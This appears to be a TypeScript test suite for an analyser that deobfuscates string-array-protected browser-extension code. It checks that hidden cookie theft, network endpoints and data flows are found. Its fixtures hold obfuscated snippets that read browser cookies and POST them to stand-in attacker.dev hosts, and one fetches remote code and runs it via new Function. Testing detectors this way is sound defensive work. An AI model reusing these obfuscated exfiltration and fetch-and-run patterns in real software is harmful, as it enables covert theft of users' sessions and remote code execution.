import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../../testing/facts-of.ts';
import { withStringArray } from '../../../testing/string-array.ts';
import type { StringArrayOptions } from '../../../testing/string-array.ts';

const thief = (word: (text: string) => string): string => `
  const _0xshort = _0x4f1a;
  chrome[${word('cookies')}][${word('getAll')}]({}, _0xc => {
    window[${word('fetch')}](${word('https://drop.attacker.dev/c')}, { method: ${word('POST')}, body: JSON[${word('stringify')}](_0xc) });
  });
  console.log(${word('https://second.attacker.dev/x')}.replace('_0x4f1a', _0xshort));`;

describe('a string array', () => {
  const cases: readonly StringArrayOptions[] = (['none', 'base64', 'rc4'] as const).flatMap(
    (encoding) =>
      (['literal', 'function', 'arrow'] as const).map((array, index) => ({
        encoding,
        array,
        turns: 3 + index,
      })),
  );
  for (const options of cases) {
    const { encoding, array, turns } = options;
    it(`of ${array} form with ${encoding} encoding, turned ${turns} times, hides no call, host or flow`, () => {
      const facts = factsOf(withStringArray(thief, options));
      assert.equal(facts.usesOf('chrome.cookies.getAll').length, 1);
      assert.deepEqual(
        facts.endpoints.map(({ host, method }) => [host, method]),
        [['drop.attacker.dev', 'POST']],
      );
      assert.deepEqual(
        facts.flows.map(({ source, sink, host }) => [source.kind, sink.kind, host]),
        [['cookies', 'network', 'drop.attacker.dev']],
      );
      assert.ok(facts.urls.some(({ host }) => host === 'second.attacker.dev'));
      assert.deepEqual(facts.skipped, []);
    });
  }

  it('hides nothing behind wrappers of the decoder, aliases and objects of functions', () => {
    const facts = factsOf(
      withStringArray(wrappedThief, { encoding: 'rc4', array: 'function', turns: 6 }),
    );
    assert.deepEqual(
      facts.endpoints.map(({ host }) => host),
      ['wrapped.attacker.dev', 'late.attacker.dev'],
    );
    assert.deepEqual(
      facts.flows.map(({ source, sink }) => [source.kind, sink.kind]),
      [['cookies', 'network']],
    );
    assert.equal(facts.usesOf('chrome.tabs.query').length, 1);
    assert.deepEqual(facts.obfuscation.map(({ kind }) => kind).sort(), [
      'concealment',
      'control-flow-flattening',
      'string-array-rotation',
    ]);
  });

  it('hides no answer that a function which passes calls on gives', () => {
    const facts = factsOf(
      withStringArray(
        (word) => `
          const proxy = { jKlMn: function (f, a) { return f(a); } };
          proxy.jKlMn(fetch, ${word('https://late.attacker.dev/p')})[${word('then')}]((answer) => answer[${word('text')}]())[${word('then')}]((text) => { const run = new Function(text); proxy.jKlMn(run, 0); });`,
        { encoding: 'rc4', array: 'function', turns: 3 },
      ),
    );
    assert.deepEqual(
      facts.flows.map(({ source, sink }) => [source.kind, sink.kind]),
      [['network-response', 'code-execution']],
    );
  });

  it('of pieces of texts hides no address', () => {
    const facts = factsOf(
      withStringArray(
        (word) =>
          `chrome[${word('tabs')}][${word('query')}]({}, document[${word('title')}]); load(${word('https:')} + ${word('//cut.att')} + (${word('acker.dev/a')})); load(${word('https:')}, ${word('//not.a.host')});`,
        { encoding: 'base64', array: 'arrow', turns: 2 },
      ),
    );
    assert.deepEqual(
      facts.urls.map(({ host }) => host),
      ['cut.attacker.dev'],
    );
    const plain = factsOf("load('https://dr' + 'op.attac' + 'ker.dev/' + path + 'x')");
    assert.ok(plain.urls.some(({ host }) => host === 'drop.attacker.dev'));
  });

  it('of the first generation, turned by a count and defended against formatting, hides nothing', () => {
    const facts = factsOf(firstGeneration);
    assert.deepEqual(
      facts.endpoints.map(({ host }) => host),
      ['old.attacker.dev'],
    );
    assert.equal(facts.usesOf('chrome.cookies.getAll').length, 1);
  });

  it('that is built anew at each start is not read in a wrong order', () => {
    const source = withStringArray(thief, { encoding: 'none', array: 'literal', turns: 4 });
    const open = source
      .replace("'shift']()", "'shift'](Date.now())")
      .replace('=== _0xgoal', '=== Date.now()');
    const facts = factsOf(open);
    assert.deepEqual(
      facts.endpoints.flatMap(({ host }) => host ?? []),
      [],
    );
    assert.deepEqual(facts.flows, []);
  });
});

const wrappedThief = (word: (text: string) => string): string => `
  function _0xwrap(_0xp, _0xq) { return _0x4f1a(_0xp - -0x10, _0xq); }
  function run() {
    const _0xobj = {
      'kLmNo': function (f, x) { return f(x); },
      'pQrSt': ${word('https://wrapped.attacker.dev/z')},
      'uVwXy': function (a, b) { return a + b; },
    };
    const _0xref = _0xobj;
    _0xref[${word('kLmNo')}](fetch, _0xref[${word('uVwXy')}](_0xref['pQrSt'], document[${word('cookie')}]));
    const order = ${word('2|0|1')}['split']('|');
    let i = 0x0;
    while (!![]) {
      switch (order[i++]) {
        case '0': var b = chrome[${word('tabs')}]; continue;
        case '1': b[${word('query')}]({}, send); continue;
        case '2': var a = 1; continue;
      }
      break;
    }
    const late = {};
    late[${word('zZzZz')}] = function (f, x) { return f(x); };
    late[${word('hosts')}] = ${word('https://late.attacker.dev/')};
    late[${word('zZzZz')}](fetch, late[${word('hosts')}]);
    chrome.tabs.remove(_0xwrap(0x1a3));
  }
  run();`;

const firstGeneration = String.raw`
var _0x4d3f = ['Z2V0QWxs', 'aHR0cHM6Ly9vbGQuYXR0YWNrZXIuZGV2L2M=', 'Y29va2llcw=='];
(function (_0x1a, _0x2b) {
  var _0x3c = function (_0x4) { while (--_0x4) { _0x1a['push'](_0x1a['shift']()); } };
  var _0x5d = function () {
    var _0x6 = {
      'data': { 'key': 'cookie', 'value': 'timeout' },
      'setCookie': function (_0x7) { _0x7['push'](_0x7); },
      'removeCookie': function () { return 'dev'; },
      'getCookie': function (_0x11, _0x12) {
        _0x11 = _0x11 || function (_0x13) { return _0x13; };
        var _0x14 = _0x11(new RegExp('(?:^|;\x20)' + _0x12['replace'](/([.$?*|{}()[\]\\\/+^])/g, '$1') + '=([^;]*)'));
        var _0x15 = function (_0x16, _0x17) { _0x16(++_0x17); };
        _0x15(_0x3c, _0x2b);
        return _0x14 ? decodeURIComponent(_0x14[0x1]) : undefined;
      },
    };
    var _0x18 = function () {
      var _0x19 = new RegExp('\x5cw+\x20*\x5c(\x5c)\x20*{\x5cw+\x20*[\x27|\x22].+[\x27|\x22];?\x20*}');
      return _0x19['test'](_0x6['removeCookie']['toString']());
    };
    _0x6['updateCookie'] = _0x18;
    var _0x1c = _0x6['updateCookie']();
    if (!_0x1c) _0x6['setCookie'](['*'], 'counter', 0x1);
    else if (_0x1c) _0x6['getCookie'](null, 'counter');
    else _0x6['removeCookie']();
  };
  _0x5d();
}(_0x4d3f, 0x65));
var _0x2c1d = function (_0xa, _0xb) {
  _0xa = _0xa - 0x0;
  var _0xc = _0x4d3f[_0xa];
  if (_0x2c1d['initialized'] === undefined) {
    (function () {
      var _0xd = typeof window !== 'undefined' ? window : typeof process === 'object' && typeof require === 'function' && typeof global === 'object' ? global : this;
      _0xd['atob'] || (_0xd['atob'] = function (_0xf) { return ''; });
    }());
    _0x2c1d['base64DecodeUnicode'] = function (_0x10) {
      var _0x11 = atob(_0x10);
      var _0x12 = [];
      for (var _0x13 = 0x0, _0x14 = _0x11['length']; _0x13 < _0x14; _0x13++) {
        _0x12 += '%' + ('00' + _0x11['charCodeAt'](_0x13)['toString'](0x10))['slice'](-0x2);
      }
      return decodeURIComponent(_0x12);
    };
    _0x2c1d['data'] = {};
    _0x2c1d['initialized'] = !![];
  }
  var _0x15 = _0x2c1d['data'][_0xa];
  if (_0x15 === undefined) { _0xc = _0x2c1d['base64DecodeUnicode'](_0xc); _0x2c1d['data'][_0xa] = _0xc; }
  else { _0xc = _0x15; }
  return _0xc;
};
var _0x9e = { 'aBcDe': function (_0x1, _0x2) { return _0x1(_0x2); } };
chrome[_0x2c1d('0x0')][_0x2c1d('0x1')]({}, function (jar) { _0x9e['aBcDe'](fetch, _0x2c1d('0x2') + JSON.stringify(jar)); });
`;
